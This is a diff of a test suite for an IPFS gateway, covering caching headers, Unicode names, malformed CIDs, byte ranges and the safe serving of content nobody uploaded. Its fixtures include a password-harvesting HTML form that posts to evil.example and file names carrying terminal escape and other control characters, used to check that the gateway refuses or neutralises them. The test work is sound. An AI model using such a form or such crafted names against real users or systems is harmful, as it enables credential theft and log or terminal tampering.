@@ -1,7 +1,12 @@
+import { Readable } from 'node:stream'
+import * as dagPb from '@ipld/dag-pb'
+import { CID } from 'multiformats/cid'
+import * as raw from 'multiformats/codecs/raw'
+import { identity } from 'multiformats/hashes/identity'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { avatarBundle, fixture } from '../support/fixtures.ts'
+import { AVATAR_FST, avatarBundle, fixture, makeZip } from '../support/fixtures.ts'
 import { appBackends } from '../support/backends.ts'
-import { asBytes, createIdentity, startTestHeimdall, type TestHeimdall } from '../support/heimdall-harness.ts'
+import { asBytes, createIdentity, expectNothingLeftBehind, leftovers, startTestHeimdall, type TestHeimdall } from '../support/heimdall-harness.ts'
 
 const glb = fixture('glb/BoxTextured.glb')
 
@@ -11,6 +16,8 @@ const backends = appBackends()
 for (const backend of backends) describe.skipIf(!backend.available)(`gateway over ${backend.name}`, () => {
 let t: TestHeimdall
 let root: string
+/** CID of each file of the bundle, by its path in the answer (`hero/avatar.fst`). */
+let cids: Map<string, string>
 let stopBackend: () => Promise<void>
 
 beforeAll(async () => {
@@ -19,7 +26,8 @@ beforeAll(async () => {
   t = await startTestHeimdall(started.env)
   const { token } = await createIdentity(t.request)
   const bundle = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', await avatarBundle(), 'hero.zip').expect(200)
-  root = (bundle.body as Array<{ Name: string, Hash: string }>).find((i) => i.Name === 'hero')?.Hash ?? ''
+  cids = new Map((bundle.body as Array<{ Name: string, Hash: string }>).map((i) => [i.Name, i.Hash]))
+  root = cids.get('hero') ?? ''
   await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', glb, 'box.glb').expect(200)
 })
 afterAll(async () => { await t.close(); await stopBackend() })
@@ -31,7 +39,8 @@ describe('GET /ipfs/<cid>/<path>', () => {
     expect(res.headers).toMatchObject({
       'content-type': 'image/png',
       'content-length': String(fixture('gltf/BoxTextured/CesiumLogoFlat.png').length),
-      etag: `"/ipfs/${root}/textures/skin.png"`,
+      etag: `"${cids.get('hero/textures/skin.png') ?? ''}"`,
+      'x-ipfs-path': `/ipfs/${root}/textures/skin.png`,
       'cache-control': 'public, max-age=29030400, immutable',
       'access-control-allow-origin': '*',
       'x-content-type-options': 'nosniff',
@@ -69,7 +78,11 @@ describe('GET /ipfs/<cid>/<path>', () => {
   })
 
   it('answers If-None-Match with 304', async () => {
-    await t.request.get(`/ipfs/${root}/avatar.fst`).set('If-None-Match', `"/ipfs/${root}/avatar.fst"`).expect(304)
+    const etag = `"${cids.get('hero/avatar.fst') ?? ''}"`
+    const res = await t.request.get(`/ipfs/${root}/avatar.fst`).set('If-None-Match', `"bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy", W/${etag}`).expect(304)
+    expect(res.headers.etag).toBe(etag)
+    expect(res.headers['cache-control']).toBe('public, max-age=29030400, immutable')
+    await t.request.get(`/ipfs/${root}/avatar.fst`).set('If-None-Match', `"/ipfs/${root}/avatar.fst"`).expect(200)
   })
 
   it('redirects a directory to its slash form and lists it', async () => {
@@ -97,6 +110,194 @@ describe('GET /ipfs/<cid>/<path>', () => {
     const res = await t.request.options(`/ipfs/${root}/box.fbx`).set('Origin', 'https://viewer.example').set('Access-Control-Request-Method', 'GET').expect(204)
     expect(res.headers['access-control-allow-origin']).toBe('*')
     expect(res.headers['access-control-allow-headers']).toContain('Range')
+  })
+})
+
+/** Every byte of a header value is visible ASCII: what Node (and HTTP) accepts without mangling. */
+const ASCII_HEADER = /^[\x20-\x7e]*$/
+
+describe('Unicode names', () => {
+  const png = fixture('gltf/BoxTextured/CesiumLogoFlat.png')
+  let token: string
+  beforeAll(async () => { ({ token } = await createIdentity(t.request)) })
+
+  it.each(['テクスチャ.png', 'emoji😀.png', 'über.png', 'a b+c%20(1)#?&.png'])('uploads %s and serves it from its own link with ASCII headers', async (name) => {
+    const stem = name.slice(0, -'.png'.length)
+    const answer = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', png, name).expect(200)
+    const items = answer.body as Array<{ Name: string, Hash: string, primary?: string }>
+    expect(items.map((i) => i.Name)).toEqual([`${stem}/${name}`, stem])
+    const fileCid = items[0]?.Hash ?? ''
+    const root = items[1]?.Hash ?? ''
+
+    const list = await t.request.get('/uploads').set('Authorization', `Bearer ${token}`).expect(200)
+    const listed = (list.body as { uploads: Array<{ name: string, rootCid: string, files: Array<{ path: string, url: string }> }> }).uploads.find((u) => u.rootCid === root)
+    expect(listed?.name).toBe(stem)
+    expect(listed?.files.map((f) => f.path)).toEqual([name])
+    const link = new URL(listed?.files[0]?.url ?? '').pathname
+    expect(link).toBe(`/ipfs/${root}/${encodeURIComponent(name)}`)
+
+    const res = await t.request.get(link).buffer(true).parse(asBytes).expect(200)
+    expect(Buffer.compare(res.body as Buffer, png)).toBe(0)
+    for (const [header, value] of Object.entries(res.headers)) expect(`${header}: ${String(value)}`).toMatch(ASCII_HEADER)
+    expect(res.headers['x-ipfs-path']).toBe(`/ipfs/${root}/${encodeURIComponent(name)}`)
+    expect(res.headers.etag).toBe(`"${fileCid}"`)
+    expect(res.headers['content-type']).toBe('image/png')
+    await t.request.get(link).set('If-None-Match', `"${fileCid}"`).expect(304)
+
+    const listing = await t.request.get(`/ipfs/${root}/`).expect(200)
+    expect(listing.text).toContain(`href="${encodeURIComponent(name)}"`)
+    expect(listing.text).toContain(name.replace(/&/g, '&amp;'))
+  })
+
+  it('keeps long multi-byte names through a bundle of many files (an answer of many reads)', async () => {
+    // ~1 KiB of JSON per name, 120 of them: the add answer spans many socket reads. (Chunks split inside
+    // a character deterministically in test/ipfs/kubo-add-answer.test.ts.)
+    const names = Array.from({ length: 120 }, (_, i) => `${'テ'.repeat(60 + (i % 7))}😀${'ü'.repeat(i % 5)}${'字'.repeat(200)}-${i}.png`)
+    const zip = await makeZip(names.map((path, i) => ({ path: `フォルダ/${path}`, data: Buffer.concat([png, Buffer.from([i])]) })))
+    const answer = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', zip, '束.zip').expect(200)
+    const items = answer.body as Array<{ Name: string, Hash: string }>
+    expect(items.map((i) => i.Name).sort()).toEqual([...names.map((n) => `束/フォルダ/${n}`), '束/フォルダ', '束'].sort())
+    const root = items.at(-1)?.Hash ?? ''
+    const last = names.at(-1) ?? ''
+    const res = await t.request.head(`/ipfs/${root}/${encodeURIComponent('フォルダ')}/${encodeURIComponent(last)}`).expect(200)
+    expect(res.headers['x-ipfs-path']).toBe(`/ipfs/${root}/${encodeURIComponent('フォルダ')}/${encodeURIComponent(last)}`)
+  })
+
+  it.each(['bell\u0007.png', 'tab\there.png', 'esc\u001b[31m.png', 'next-line\u0085.png', 'csi\u009b.png', 'del\u007f.png'])('refuses a control character in a file name (%j) with 400, leaving nothing', async (name) => {
+    const before = await leftovers(t)
+    const res = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', png, name).expect(400)
+    // busboy already refuses some of them in the part header; the name check catches the rest.
+    expect((res.body as { error: string }).error).toMatch(/control character|Malformed part header/)
+    await expectNothingLeftBehind(t, before)
+  })
+
+  it('refuses a bundle entry with a control character in its path with 400, leaving nothing', async () => {
+    const before = await leftovers(t)
+    const zip = await makeZip([{ path: 'ok.png', data: png }, { path: 'dir\u0085/x\u0007.png', data: png }])
+    const res = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', zip, 'bundle.zip').expect(400)
+    expect((res.body as { details: string[] }).details.join('\n')).toMatch(/control character/)
+    await expectNothingLeftBehind(t, before)
+  })
+})
+
+describe('malformed and crafted CIDs', () => {
+  it('refuses an identity CID whose digest is over 128 bytes with 400', async () => {
+    const long = CID.createV1(raw.code, identity.digest(new Uint8Array(129).fill(0x61))).toString()
+    const res = await t.request.get(`/ipfs/${long}`).expect(400)
+    expect((res.body as { error: string }).error).toMatch(/identity/)
+    expect(res.headers['access-control-allow-origin']).toBe('*')
+    const atLimit = CID.createV1(raw.code, identity.digest(new Uint8Array(128).fill(0x61))).toString()
+    const ok = await t.request.get(`/ipfs/${atLimit}`).buffer(true).parse(asBytes).expect(200)
+    expect((ok.body as Buffer).length).toBe(128)
+  })
+
+  it.each([
+    ['a CID with a truncated multihash', 'bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aq'],
+    ['a CIDv0 of the wrong length', 'QmQJ8fxavY54CUsxMSx9aE9Rdcmvhx8awJK2jzJp4iAq'],
+    ['an unknown multibase', 'zzzz'],
+    ['bytes that are no varint', 'bafyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy']
+  ])('answers %s with 400', async (_what, value) => {
+    const res = await t.request.get(`/ipfs/${value}/x.png`).expect(400)
+    expect(res.headers['access-control-allow-origin']).toBe('*')
+  })
+})
+
+describe('documents that no one uploaded', () => {
+  const html = '<!doctype html><form action=//evil.example>password<input name=p></form>'
+
+  /** A directory whose bytes are inside its own CID (at most 128 of them), linking `name` whose bytes are inside its CID. */
+  function identityDirectory (name: string): string {
+    const page = CID.createV1(raw.code, identity.digest(new TextEncoder().encode(html)))
+    // UnixFS Data { Type: Directory } is the two protobuf bytes 08 01.
+    const node = dagPb.encode(dagPb.prepare({ Data: Uint8Array.of(0x08, 0x01), Links: [{ Name: name, Hash: page, Tsize: html.length }] }))
+    expect(node.length).toBeLessThanOrEqual(128)
+    return CID.createV1(dagPb.code, identity.digest(node)).toString()
+  }
+
+  it.each(['page.html', 'drawing.svg'])('serves %s under an identity CID as plain text to download, never as a document', async (name) => {
+    const dir = identityDirectory(name)
+    const res = await t.request.get(`/ipfs/${dir}/${name}`).expect(200)
+    expect(res.headers['content-type']).toBe('text/plain; charset=utf-8')
+    expect(res.headers['content-disposition']).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`)
+    expect(res.headers['x-content-type-options']).toBe('nosniff')
+    expect(res.text).toBe(html)
+  })
+
+  it('serves HTML as HTML only under a root pinned here', async () => {
+    const nodes = await t.heimdall.backend.importTree([{ path: 'ページ.html', content: Readable.from([Buffer.from(html)]) }], { profile: 'unixfs-v1-2025' })
+    const dir = nodes.at(-1)?.cid
+    if (dir === undefined) throw new Error('no root')
+    const link = `/ipfs/${dir.toString()}/${encodeURIComponent('ページ.html')}`
+    const held = await t.request.get(link).expect(200)
+    expect(held.headers['content-type']).toBe('text/plain; charset=utf-8')
+    expect(held.headers['content-disposition']).toBe(`attachment; filename="___.html"; filename*=UTF-8''${encodeURIComponent('ページ.html')}`)
+    await t.heimdall.backend.pin(dir)
+    try {
+      const pinned = await t.request.get(link).expect(200)
+      expect(pinned.headers['content-type']).toBe('text/html; charset=utf-8')
+      expect(pinned.headers['content-disposition']).toBeUndefined()
+      expect(pinned.headers['content-security-policy']).toMatch(/^sandbox;/)
+    } finally {
+      await t.heimdall.backend.unpin(dir)
+    }
+  })
+})
+
+describe('cookies, CORS and caching on every gateway answer', () => {
+  it('sets no cookie on a directory listing for a browser, nor on its errors', async () => {
+    const listing = await t.request.get(`/ipfs/${root}/`).set('Accept', 'text/html').expect(200)
+    expect(listing.headers['set-cookie']).toBeUndefined()
+    expect(listing.headers['cache-control']).toBe('public, max-age=29030400, immutable')
+    const missing = await t.request.get(`/ipfs/${root}/nothing-here/`).set('Accept', 'text/html').expect(404)
+    expect(missing.headers['set-cookie']).toBeUndefined()
+    const bare = await t.request.get('/ipfs/').set('Accept', 'text/html').expect(404)
+    expect(bare.headers['set-cookie']).toBeUndefined()
+  })
+
+  it.each([
+    ['an unknown path', 'GET', (): string => `/ipfs/${root}/missing.png`, {}, 404],
+    ['an unknown CID', 'GET', (): string => '/ipfs/bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy', {}, 404],
+    ['a malformed CID', 'GET', (): string => '/ipfs/not-a-cid/x.png', {}, 400],
+    ['no CID', 'GET', (): string => '/ipfs/', {}, 404],
+    ['an unsatisfiable range', 'GET', (): string => `/ipfs/${root}/avatar.fst`, { Range: 'bytes=100000-' }, 416],
+    ['a POST', 'POST', (): string => `/ipfs/${root}/avatar.fst`, {}, 405]
+  ] as const)('answers %s with CORS and nosniff headers and no immutable caching', async (_what, method, path, headers, status) => {
+    const req = method === 'POST' ? t.request.post(path()) : t.request.get(path())
+    const res = await req.set(headers).set('Origin', 'https://viewer.example').expect(status)
+    expect(res.headers['access-control-allow-origin']).toBe('*')
+    expect(res.headers['access-control-expose-headers']).toContain('X-Ipfs-Path')
+    expect(res.headers['x-content-type-options']).toBe('nosniff')
+    expect(res.headers['cache-control'] ?? '').not.toMatch(/immutable|public/)
+    expect(res.headers['set-cookie']).toBeUndefined()
+  })
+})
+
+describe('byte ranges (RFC 9110)', () => {
+  const fst = Buffer.from(AVATAR_FST)
+  const path = (): string => `/ipfs/${root}/avatar.fst`
+  const get = (headers: Record<string, string>) => t.request.get(path()).set(headers).buffer(true).parse(asBytes)
+
+  it('serves a suffix range longer than the file as the whole file, 206', async () => {
+    const res = await get({ Range: `bytes=-${fst.length + 100}` }).expect(206)
+    expect(res.headers['content-range']).toBe(`bytes 0-${fst.length - 1}/${fst.length}`)
+    expect(Buffer.compare(res.body as Buffer, fst)).toBe(0)
+  })
+
+  it.each(['items=0-5', 'bytes=abc', 'bytes=0-1,5-6'])('answers Range: %s with the whole file, 200', async (range) => {
+    const res = await get({ Range: range }).expect(200)
+    expect(res.headers['content-range']).toBeUndefined()
+    expect(Buffer.compare(res.body as Buffer, fst)).toBe(0)
+  })
+
+  it('honours If-Range only when it names this representation\'s ETag', async () => {
+    const etag = (await t.request.head(path()).expect(200)).headers.etag as string
+    expect(etag).toMatch(/^"b[a-z2-7]+"$/)
+    const matching = await get({ Range: 'bytes=0-3', 'If-Range': etag }).expect(206)
+    expect(Buffer.compare(matching.body as Buffer, fst.subarray(0, 4))).toBe(0)
+    for (const validator of ['"bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy"', `W/${etag}`, 'Wed, 21 Oct 2015 07:28:00 GMT']) {
+      const full = await get({ Range: 'bytes=0-3', 'If-Range': validator }).expect(200)
+      expect(Buffer.compare(full.body as Buffer, fst)).toBe(0)
+    }
   })
 })
 
